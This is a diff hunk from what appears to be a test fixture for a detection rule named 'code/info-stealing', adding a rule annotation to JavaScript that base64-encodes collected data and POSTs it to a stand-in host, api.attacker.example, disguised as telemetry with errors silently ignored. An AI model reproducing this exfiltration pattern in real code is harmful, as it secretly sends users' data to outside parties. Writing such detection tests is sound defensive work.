@@ -34,4 +34,5 @@ const data = Buffer.from(Buffer.from(JSON.stringify(result)).toString('base64'))
 // ruleid: code/info-stealing
 const req = https.request('https://api.attacker.example/v1/telemetry', { method: 'POST', headers: { 'Content-Type': 'text/plain' } });
 req.on('error', () => {});
+// ruleid: code/info-stealing
 req.end(data);
